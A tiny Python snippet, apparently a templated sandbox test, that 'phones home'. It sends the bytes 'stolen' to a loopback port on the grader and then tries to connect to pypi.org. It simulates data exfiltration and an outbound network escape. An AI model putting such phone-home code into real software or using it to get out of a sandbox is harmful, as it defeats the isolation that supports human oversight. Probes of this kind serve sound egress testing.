# Phone home: the grader's own loopback, then the internet.
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
finally:
    socket.create_connection(("pypi.org", 443), timeout=3)
